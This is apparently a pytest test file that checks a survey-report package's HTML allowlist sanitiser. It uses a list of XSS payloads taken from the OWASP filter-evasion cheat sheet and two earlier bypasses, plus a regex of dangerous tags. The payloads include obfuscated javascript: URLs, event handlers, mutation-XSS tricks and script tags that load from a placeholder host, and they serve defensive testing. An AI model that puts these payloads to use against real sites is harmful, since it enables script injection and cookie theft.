"""The report's HTML allowlist (techvet_survey.report._sanitise) against known XSS vectors.

The vectors are the two bypasses of the former regex sanitiser and cases from the OWASP
XSS Filter Evasion Cheat Sheet (hosts replaced by ``xss.invalid``). Whatever goes in, the
output may only hold allowed tags and attributes, links to http(s) or an anchor, and
embedded images; and cleaning it again changes nothing (nothing left for a browser to
parse differently).
"""

import re
from html.parser import HTMLParser

import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from techvet_survey.report import html_table, render_report
from techvet_survey.report._display import METADATA_KEY
from techvet_survey.report._sanitise import (
    ALIGNMENTS,
    ATTRIBUTES,
    CLASSES,
    TAGS,
    is_table_markup,
    sanitise,
)

FORMER_BYPASSES = [
    "<img/src=x/onerror=alert(1)>",
    '<a href="jav&#x61;script:alert(1)">click</a>',
]

OWASP_VECTORS = [
    '<SCRIPT SRC="http://xss.invalid/xss.js"></SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<a href=\"jav\tascript:alert('XSS');\">tab</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">encoded tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">encoded newline</a>",
    '<a href=java\0script:alert("XSS")>null</a>',
    "<a href=\" &#14;  javascript:alert('XSS');\">spaces and meta characters</a>",
    '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.invalid/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<SVG/ONLOAD=alert('XSS')>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="//xss.invalid/">protocol-relative</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
]

DANGEROUS_TEXT = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|base|meta)", re.I)


class Markup(HTMLParser):
    """Every start tag of a fragment with its attributes."""

    def __init__(self, markup):
        super().__init__()
        self.tags = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def allowed_attributes(tag):
    names = set(ATTRIBUTES.get(tag, ())) | set(ALIGNMENTS.get(tag, {}))
    return names | ({"class"} if tag in CLASSES else set()) | ({"rel"} if tag == "a" else set())


def browser_scheme(url):
    """The scheme a browser reads: C0 controls and spaces stripped, tabs and newlines gone."""
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(33))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def assert_inert(markup):
    for tag, attrs in Markup(markup).tags:
        assert tag in TAGS, (tag, markup)
        assert set(attrs) <= allowed_attributes(tag), (tag, attrs)
        if "href" in attrs:
            href = attrs["href"]
            assert href.startswith("#") or browser_scheme(href) in ("http", "https"), href
        if "src" in attrs:
            assert attrs["src"].startswith(("data:image/png;base64,", "data:image/svg+xml;")), attrs
    assert not DANGEROUS_TEXT.search(markup), markup
    assert sanitise(markup) == markup, "cleaning twice changed the output"


@pytest.mark.parametrize("vector", FORMER_BYPASSES + OWASP_VECTORS)
def test_no_xss_vector_survives_the_sanitiser(vector):
    assert_inert(sanitise(vector))


def test_former_bypasses_lose_the_handler_and_the_url_but_keep_the_text():
    assert sanitise(FORMER_BYPASSES[0]) == "<img>"
    assert sanitise(FORMER_BYPASSES[1]) == '<a rel="noopener noreferrer">click</a>'


def test_sanitiser_keeps_what_the_report_needs():
    kept = [
        '<section class="notebook" id="part-1"><h2 id="files">Files</h2></section>',
        '<figure id="figure-1"><img src="data:image/png;base64,iVBORw0KGgo=" alt="A">'
        "<figcaption>Figure 1. A</figcaption></figure>",
        '<div class="table-wrap" id="table-1"><table class="data"><caption>Table 1. c</caption>'
        '<thead><tr><th align="right">n</th></tr></thead>'
        '<tbody><tr><td class="num">1</td></tr></tbody></table></div>',
        '<p class="note">note</p><pre class="output">printed</pre>',
        '<p><a href="https://example.org/a?b=1" rel="noopener noreferrer">web</a> '
        '<a href="#table-1" rel="noopener noreferrer">table</a></p>',
        '<ol start="3"><li><em>e</em> <strong>s</strong> <code>c</code></li></ol>',
    ]
    for markup in kept:
        assert sanitise(markup) == markup


def test_report_body_is_sanitised_links_and_remote_images_included():
    narrative = (
        "# Part\n\n[a](javascript:alert(1)) [b](jav&#x61;script:alert(1)) "
        "[c](data:text/html,x) ![d](http://tracker.invalid/pixel.png) [e](https://example.org)"
        "\n\n| n |\n|--:|\n| 1 |\n"
    )
    page = render_report([new_notebook(cells=[new_markdown_cell(narrative)])], title="t")
    body = page[page.index("<main>") + len("<main>") : page.index("</main>")]
    assert_inert(body)
    assert '<a href="https://example.org" rel="noopener noreferrer">e</a>' in body
    assert "tracker.invalid" not in body and '<th align="right">n</th>' in body


def test_table_markup_allowlist_accepts_report_tables_only():
    hostile = pd.DataFrame({"text": ['<img/src=x/onerror=alert(1)> "q"'], "n": [1.5]})
    assert is_table_markup(html_table(hostile, "<b>caption</b>"))
    for foreign in (
        '<table><tr><td><img src="data:image/png;base64,AA=="></td></tr></table>',
        '<table style="x"><tr><td>1</td></tr></table>',
        '<table><tr><td><a href="https://example.org">1</a></td></tr></table>',
    ):
        assert not is_table_markup(foreign)


def test_report_shows_a_foreign_table_as_its_caption_only():
    output = new_output(
        "display_data",
        data={"text/html": FORMER_BYPASSES[0], "text/plain": "p"},
        metadata={METADATA_KEY: {"kind": "table", "caption": "shown as text"}},
    )
    page = render_report([new_notebook(cells=[new_code_cell("x", outputs=[output])])], title="t")
    assert '<pre class="output">shown as text</pre>' in page and "onerror" not in page
